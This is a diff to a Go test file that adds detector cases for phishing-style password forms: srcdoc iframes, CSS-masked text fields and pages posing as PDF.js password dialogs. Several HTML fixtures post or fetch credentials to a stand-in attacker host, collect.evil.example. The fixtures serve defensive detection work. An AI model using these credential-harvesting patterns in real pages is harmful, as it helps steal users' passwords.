@@ -99,6 +99,16 @@ func TestPasswordForms(t *testing.T) {
 		{"a rule on password fields by class", "", `<style>input.pw[type=password], .x{-webkit-text-security:disc}</style><form action="https://shop.example/s"><input class="pw" name="q"></form>`, nil, false},
 		{"a rule on text fields by type", "", `<style>form input[ type = 'text' ]{-webkit-text-security:disc}</style><form action="https://collect.evil.example/p"><input name="p"></form>`, []string{"collect.evil.example"}, false},
 		{"a rule on text fields by type, case-insensitive flag", "", `<style>input[type="TEXT" i]{-webkit-text-security:disc}</style><form action="https://collect.evil.example/p"><input type=text name="p"></form>`, []string{"collect.evil.example"}, false},
+		{"a srcdoc frame's field posted by its script", page, `<iframe srcdoc="<div><input type=password id=p><button onclick=&quot;go()&quot;>Next</button></div><script>fetch('https://collect.evil.example/p')</script>"></iframe>`, nil, true},
+		{"a srcdoc frame's field posted by the page's script", page, `<iframe srcdoc="<input type=password id=p>"></iframe><script>go()</script>`, nil, true},
+		{"a srcdoc frame's field without script", page, `<iframe srcdoc="<p>Sign in</p><input type=password id=p>"></iframe>`, nil, false},
+		{"every input masked on focus only", page, `<style>input:focus{-webkit-text-security:disc}</style><input type=text name=q><script>go()</script>`, nil, false},
+		{"a class masked on focus", page, `<style>.pw:focus{-webkit-text-security:disc}</style><input type=text class=pw name=p><script>go()</script>`, nil, true},
+		{"an id masked by a rule with a pseudo-class", page, `<style>input#pass:not(:placeholder-shown){-webkit-text-security:disc}</style><input type=text id=pass><script>go()</script>`, nil, true},
+		{"a PDF.js viewer's password dialog", page, `<html><head><script src="pdf.mjs" type="module"></script><script src="viewer.mjs" type="module"></script></head><body><div id="viewerContainer"></div><dialog id="passwordDialog"><label for="password">Enter the password to open this PDF file.</label><input type="password" id="password" class="toolbarField"><button id="passwordSubmit">OK</button></dialog></body></html>`, nil, false},
+		{"an old PDF.js viewer's password overlay", page, `<script src="../build/pdf.js"></script><div id="passwordOverlay" class="container hidden"><input type="password" id="password" class="toolbarField"></div><script>pdfjsLib.GlobalWorkerOptions.workerSrc='pdf.worker.js'</script>`, nil, false},
+		{"a kit borrowing PDF.js's names that posts", page, `<script src="pdf.js"></script><div id="passwordOverlay"><input type="password" id="password"></div><script>fetch('https://collect.evil.example/p',{method:'POST'})</script>`, nil, true},
+		{"a PDF.js-looking page's form still marks", page, `<script src="pdf.js"></script><div id="passwordOverlay"><form action="https://collect.evil.example/p"><input type="password" id="password"></form></div>`, []string{"collect.evil.example"}, false},
 		{"a prefix bound to another namespace", svg, `<svg xmlns:h="http://example.org/ns"><foreignObject><h:form action="https://collect.evil.example/p"><h:input type="password"/></h:form></foreignObject></svg>`, nil, false},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
